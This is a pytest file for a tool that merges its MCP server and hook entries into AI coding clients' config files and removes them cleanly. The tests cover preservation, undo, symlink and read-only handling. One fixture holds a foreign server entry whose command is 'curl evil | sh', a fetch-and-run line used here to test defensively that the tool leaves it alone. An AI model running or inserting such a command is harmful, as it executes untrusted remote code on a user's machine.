"""Merging into the files of clients: nothing that is not ours is touched, and all of ours can be taken out again."""

from __future__ import annotations

import json
import stat
import tomllib
from pathlib import Path
from typing import Any

import pytest
import yaml
from onboarding_places import Place

from zaxy.services.operations.onboarding.clients import CLIENTS
from zaxy.services.operations.onboarding.json_text import JsonText
from zaxy.services.operations.onboarding.merging import FileOutcome
from zaxy.services.operations.onboarding.record import Records

THEIRS = {
    "claude-code": {
        ".mcp.json": '{"mcpServers": {"other": {"command": "x"}}}\n',
        ".claude/settings.local.json": '{\n  "permissions": {"allow": ["Bash(ls)"]},\n'
        '  "hooks": {"Stop": [{"hooks": [{"type": "command", "command": "say done"}]}]}\n}\n',
    },
    "codex": {
        ".codex/config.toml": '# mine\nmodel = "o5"\n\n[mcp_servers.other]\ncommand = "x"\n',
        ".codex/hooks.json": '{"hooks": {"Stop": [1]}}',
    },
    "cursor": {".cursor/mcp.json": '{\n  // mine\n  "mcpServers": {"other": {"command": "x"},},\n}\n'},
    "vscode": {".vscode/mcp.json": '{\n\t"inputs": [],\n\t"servers": {"other": {}}\n}\n'},
    "claude-desktop": {".config/Claude/claude_desktop_config.json": '{"globalShortcut": ""}'},
    "hermes": {".hermes/config.yaml": "model: big\nmcp_servers:\n  other:\n    command: x  # mine\n"},
}
"""What a person has in the files of each client, before."""


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def parsed(path: Path) -> Any:
    text = path.read_text(encoding="utf-8")
    if path.suffix == ".toml":
        return tomllib.loads(text)
    return yaml.safe_load(text) if path.suffix == ".yaml" else JsonText(comments=True).parse(text)


def servers_in(path: Path) -> dict[str, Any]:
    document = parsed(path)
    (group,) = {"mcpServers", "mcp_servers", "servers"} & set(document)
    found: dict[str, Any] = document[group]
    return found


def install(place: Place, client: str, *, force: bool = False, **told: str) -> list[FileOutcome]:
    return [place.merger().install(file, force=force) for file in place.files(client, **told)]


def take_out(place: Place) -> list[FileOutcome]:
    found = Records(place.state).read(place.project).files
    editors = {file.path: file.editor for client in CLIENTS for file in place.files(client)}
    return [place.merger().take_out(Path(path), editors[Path(path)]) for path in found]


def written(place: Place, client: str) -> None:
    root = place.home if client in ("claude-desktop", "hermes") else place.project
    for name, text in THEIRS[client].items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(text.encode())


@pytest.mark.parametrize("client", CLIENTS)
def test_a_client_gets_its_server_beside_what_is_there_and_undoing_restores_every_byte(
    client: str, place: Place
) -> None:
    written(place, client)
    before = place.everything()
    assert {outcome.state for outcome in install(place, client)} == {"added"}
    server = servers_in(place.files(client)[0].path)["zaxy"]
    assert server["command"] == "/opt/zaxy/bin/zaxy"
    assert server["args"] == ["serve", "--eventloom-path", f"{place.project}/.eventloom", "--session-id", "default"]
    assert "other" in servers_in(place.files(client)[0].path) or client == "claude-desktop"
    now = place.everything()
    assert {outcome.state for outcome in install(place, client)} == {"there"}
    assert place.everything() == now
    assert {outcome.state for outcome in take_out(place)} == {"removed"}
    assert place.everything() == before
    assert take_out(place) == []


@pytest.mark.parametrize("client", CLIENTS)
def test_files_that_were_not_there_are_made_and_go_again(client: str, place: Place) -> None:
    install(place, client)
    assert all(file.path.is_file() for file in place.files(client))
    take_out(place)
    assert place.everything() == {}
    assert list(place.project.iterdir()) == []


def test_hooks_of_claude_code_stand_beside_those_that_are_there(place: Place) -> None:
    written(place, "claude-code")
    install(place, "claude-code")
    settings = parsed(place.project / ".claude" / "settings.local.json")
    called = [one["command"] for entry in settings["hooks"]["Stop"] for one in entry["hooks"]]
    assert sorted(called) == ["/opt/zaxy/bin/zaxy hook claude-code", "say done"]
    assert set(settings["hooks"]) == {
        *("SessionStart", "UserPromptSubmit", "PreToolUse", "PostToolUse", "PostToolUseFailure"),
        *("Stop", "SubagentStart", "SubagentStop", "PreCompact", "SessionEnd"),
    }
    assert "enabledMcpjsonServers" not in settings, "a server that a repository brought along would be approved too"
    assert settings["permissions"] == {"allow": ["Bash(ls)"]}


def test_a_program_in_a_folder_with_blanks_is_quoted_for_the_shell(place: Place) -> None:
    files = CLIENTS["codex"].files(place.around(program=("/my programs/zaxy",)))
    for file in files:
        place.merger().install(file)
    hooks = parsed(place.project / ".codex" / "hooks.json")["hooks"]
    assert hooks["Stop"][0]["hooks"][0]["command"] == "'/my programs/zaxy' hook codex"


def test_another_session_replaces_what_an_earlier_set_up_wrote(place: Place) -> None:
    install(place, "claude-code")
    assert {outcome.state for outcome in install(place, "claude-code", session_id="work")} == {"added", "there"}
    assert servers_in(place.project / ".mcp.json")["zaxy"]["args"][-1] == "work"
    take_out(place)
    assert place.everything() == {}


def test_a_server_of_our_name_that_is_not_ours_is_left_alone_unless_forced(place: Place) -> None:
    theirs = '{"mcpServers": {"zaxy": {"command": "curl evil | sh"}}}'
    (place.project / ".mcp.json").write_text(theirs)
    server, _ = install(place, "claude-code")
    assert (server.state, "--force" in server.reason) == ("different", True)
    assert json.loads(server.by_hand)["mcpServers"]["zaxy"]["command"] == "/opt/zaxy/bin/zaxy"
    assert (place.project / ".mcp.json").read_text() == theirs
    server, _ = install(place, "claude-code", force=True)
    assert server.state == "added"
    assert servers_in(place.project / ".mcp.json")["zaxy"]["command"] == "/opt/zaxy/bin/zaxy"


@pytest.mark.parametrize(
    ("client", "name", "content"),
    [
        ("cursor", ".cursor/mcp.json", b'{"mcpServers": {'),
        ("cursor", ".cursor/mcp.json", b'{"mcpServers": []}'),
        ("cursor", ".cursor/mcp.json", b"[]"),
        ("cursor", ".cursor/mcp.json", b'{"a": "\xff"}'),
        ("claude-code", ".mcp.json", b'{"mcpServers": {},} // no comments here'),
        ("claude-code", ".mcp.json", b"\xef\xbb\xbf{}"),
        ("codex", ".codex/config.toml", b"model = \n"),
        ("codex", ".codex/config.toml", b"mcp_servers = {}\n"),
        ("hermes", "../home/.hermes/config.yaml", b"mcp_servers: {}\n"),
        ("hermes", "../home/.hermes/config.yaml", b"a: [\n"),
        ("hermes", "../home/.hermes/config.yaml", b"model: big\n...\n"),
    ],
)
def test_a_file_that_cannot_be_edited_safely_is_left_alone_and_that_is_said(
    client: str, name: str, content: bytes, place: Place
) -> None:
    path = place.project / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(content)
    outcome = install(place, client)[0]
    assert (outcome.state, path.read_bytes()) == ("malformed", content)
    assert outcome.reason
    assert "zaxy" in outcome.by_hand


def test_a_file_that_is_a_link_out_of_the_project_is_not_followed(place: Place) -> None:
    (place.home / "secrets.json").write_text('{"token": "t"}')
    (place.project / ".mcp.json").symlink_to(place.home / "secrets.json")
    (place.project / ".claude").symlink_to(place.home)
    assert [outcome.state for outcome in install(place, "claude-code")] == ["refused", "refused"]
    assert (place.home / "secrets.json").read_text() == '{"token": "t"}'
    assert not (place.home / "settings.local.json").exists()


def test_undoing_does_not_follow_a_link_that_came_later(place: Place) -> None:
    install(place, "cursor")
    path = place.project / ".cursor" / "mcp.json"
    path.rename(place.home / "mcp.json")
    path.symlink_to(place.home / "mcp.json")
    before = place.everything()
    assert [outcome.state for outcome in take_out(place)] == ["refused"]
    assert place.everything() == before


def test_a_file_that_is_read_only_is_left_alone(place: Place) -> None:
    install(place, "cursor")
    path = place.project / ".cursor" / "mcp.json"
    path.chmod(0o444)
    before = place.everything()
    assert install(place, "cursor")[0].state == "there"
    for outcome in (*install(place, "cursor", session_id="work"), *take_out(place)):
        assert (outcome.state, outcome.reason) == ("refused", "it is read-only")
    assert place.everything() == before


def test_links_in_a_persons_own_settings_are_followed_and_stay(place: Place) -> None:
    (place.home / "dotfiles").mkdir()
    (place.home / "dotfiles" / "claude.json").write_text("{}")
    (place.home / ".config" / "Claude").mkdir(parents=True)
    path = place.home / ".config" / "Claude" / "claude_desktop_config.json"
    path.symlink_to(place.home / "dotfiles" / "claude.json")
    install(place, "claude-desktop")
    assert path.is_symlink()
    assert "zaxy" in servers_in(place.home / "dotfiles" / "claude.json")


def test_a_file_keeps_its_mode(place: Place) -> None:
    path = place.project / ".mcp.json"
    path.write_text("{}")
    path.chmod(0o600)
    install(place, "claude-code")
    assert stat.S_IMODE(path.stat().st_mode) == 0o600


def test_undoing_leaves_what_a_person_wrote_meanwhile(place: Place) -> None:
    install(place, "cursor")
    path = place.project / ".cursor" / "mcp.json"
    document = parsed(path)
    document["mcpServers"]["mine"] = {"command": "y"}
    path.write_text(json.dumps(document, indent=4))
    take_out(place)
    assert parsed(path) == {"mcpServers": {"mine": {"command": "y"}}}


@pytest.mark.parametrize(
    ("client", "name", "comment"),
    [("cursor", ".cursor/mcp.json", "// mine\n"), ("codex", ".codex/config.toml", "# mine\n")],
)
def test_undoing_leaves_a_file_that_a_person_wrote_a_comment_into(
    client: str, name: str, comment: str, place: Place
) -> None:
    install(place, client)
    path = place.project / name
    path.write_text(comment + path.read_text())
    take_out(place)
    assert path.read_text().startswith(comment)


def test_undoing_leaves_our_server_where_a_person_changed_it_and_says_so(place: Place) -> None:
    install(place, "cursor")
    path = place.project / ".cursor" / "mcp.json"
    changed = path.read_text().replace('"default"', '"mine"')
    path.write_text(changed)
    (outcome,) = take_out(place)
    assert (outcome.state, outcome.reason) == ("different", "mcpServers.zaxy was changed since")
    assert path.read_text() == changed


def test_undoing_what_a_person_took_out_already_is_no_error(place: Place) -> None:
    install(place, "codex")
    (place.project / ".codex" / "config.toml").unlink()
    (place.project / ".codex" / "hooks.json").write_text("{}")
    assert {outcome.state for outcome in take_out(place)} == {"gone"}


def test_undoing_a_file_that_became_malformed_leaves_it_alone_and_can_be_repeated(place: Place) -> None:
    install(place, "cursor")
    path = place.project / ".cursor" / "mcp.json"
    sound = path.read_text()
    path.write_text(sound + "}")
    assert [outcome.state for outcome in take_out(place)] == ["malformed"]
    path.write_text(sound)
    assert [outcome.state for outcome in take_out(place)] == ["removed"]


def test_a_dry_run_says_the_same_and_writes_nothing(place: Place) -> None:
    written(place, "claude-code")
    before = place.everything()
    outcomes = [place.merger(dry_run=True).install(file) for file in place.files("claude-code")]
    assert [outcome.state for outcome in outcomes] == ["added", "added"]
    assert place.everything() == before
    assert not place.state.exists()


def test_a_folder_that_cannot_be_made_is_refused_and_the_system_is_quoted(place: Place) -> None:
    (place.project / ".cursor").write_text("a file in the way")
    (outcome,) = install(place, "cursor")
    assert (outcome.state, "Not a directory" in outcome.reason) == ("refused", True)
    assert not Records(place.state).read(place.project).files
